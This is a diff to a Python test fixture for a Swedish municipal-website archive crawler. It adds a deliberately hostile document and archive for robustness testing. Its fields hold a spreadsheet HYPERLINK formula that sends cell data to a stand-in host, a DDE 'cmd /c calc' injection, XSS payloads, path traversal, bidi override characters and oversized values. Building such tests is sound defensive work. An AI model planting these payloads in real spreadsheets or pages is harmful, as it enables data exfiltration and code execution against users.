@@ -132,6 +132,52 @@ REREAD = replace(
     removals=(Removal(0, "share:list", "Dela sidan"), Removal(2, "tags:list", f"Skola {OBEYED}")),
 )
 
+TURNED = "\u202eomvänt\u2066"
+"""Turns the words that follow it round, where nothing stops it."""
+FORMULA = '=HYPERLINK("https://ond.example.se/?"&A1)'
+TANGLE = '<&"'
+NASTY = (
+    f"{FORMULA} {HOSTILE} <img src=x onerror=alert(1)> {TANGLE}' onclick=alert(2) {TURNED} \ufdfd"
+)
+LONG_LINE = f"{NASTY} " * 18_000
+"""Two megabytes without a line break."""
+
+
+def _nasty(most: int, number: int = 0) -> str:
+    return f"{FORMULA} {number} {NASTY} {TANGLE * most}"[:most]
+
+
+MONSTER = Document(
+    key="sitevision:page:=cmd|'/c calc'!A0?%&#../é",
+    kind="meeting",
+    url="https://www.example.se/" + "<\"'&>" * 300,
+    title=_nasty(20_000),
+    text=f"{LONG_LINE}\n\n{TURNED}\n\n" + "- punkt\n" * 2_000 + "\n\n1. ett\n\n2. två\n\n" * 2_000,
+    extractor="sitevision.Article/1+rules:0",
+    removals=tuple(
+        Removal(n, f"{'share' if n % 2 else 'cookie'}:row", _nasty(400, n), "root", _nasty(300, n))
+        for n in range(2_000)
+    ),
+    published_at="2026-01-01T00:00:00Z",
+    contacts=tuple(Contact(_nasty(300, n), NASTY, NASTY, NASTY) for n in range(60)),
+    fields=(Field("lead", _nasty(20_000), "p"), Field("byline", _nasty(5_000), "p")),
+    attachments=tuple(
+        AttachmentLink(f"monster:{n}", f"https://a.example.se/{'&' * 900}{n}", _nasty(500, n), n, n)
+        for n in range(1, 201)
+    ),
+    meeting=Meeting(
+        body=Body(_nasty(300), "namnd", "namnd"),
+        date="2026-12-24",
+        place=_nasty(4_000),
+        status="announced",
+        agenda=tuple(
+            AgendaItem(n, str(n), _nasty(900, n), _nasty(2_000, n), _nasty(100, n))
+            for n in range(1, 301)
+        ),
+    ),
+)
+"""All that can be too long, too many, or meant to be obeyed."""
+
 _EVENTS = (
     (MEETING.key, DAYS[0], "changed", "date", "2020-10-26", "2020-10-27"),
     (MEETING.key, DAYS[1], "changed", "place", "", f"Socialförvaltningen {HOSTILE}"),
@@ -162,6 +208,32 @@ def build_sample_archive(data_dir: Path) -> Path:
         store.put_template(site, Template((f"Eldningsförbud råder. {HOSTILE}",)), 12, NOW)
         message = f"nyheter: listningen är tom {HOSTILE}"
         store.raise_alerts(site, {"empty_listing": Message(message)}, (), NOW)
+    return path
+
+
+def build_hostile_archive(data_dir: Path, versions: int = 40) -> Path:
+    """Build an archive below `data_dir` in which everything is hostile; return its path."""
+    path = data_dir / "archive.db"
+    with Store(path) as store:
+        store.put_kommun("1489", "alingsas", "Alingsås", "Västra Götalands län")
+        site = _source(store, "1489", "nyheter", "sitevision", "news")
+        _crawl(store, data_dir, site, "nyheter-0", [MONSTER])
+        for n in range(1, versions):
+            changed = replace(
+                MONSTER,
+                title=_nasty(3_000, n),
+                text=f"{_nasty(3_000, n)}\n\n{n} {LONG_LINE[:30_000]}",
+                removals=MONSTER.removals[: 2_000 if n == versions - 1 else 3],
+            )
+            _crawl(store, data_dir, site, f"nyheter-{n}", [changed])
+        document = store.reading(MONSTER.key)
+        assert document
+        store._db.executemany(
+            "INSERT INTO events (document_id, observed_at, kind, field, old_value, new_value) "
+            "VALUES (1, ?, 'changed', 'place', ?, ?)",
+            [(NOW, _nasty(2_000, n), _nasty(2_000, n)) for n in range(200)],
+        )
+        store.raise_alerts(site, {"empty_listing": Message(NASTY)}, (), NOW)
     return path
 
 
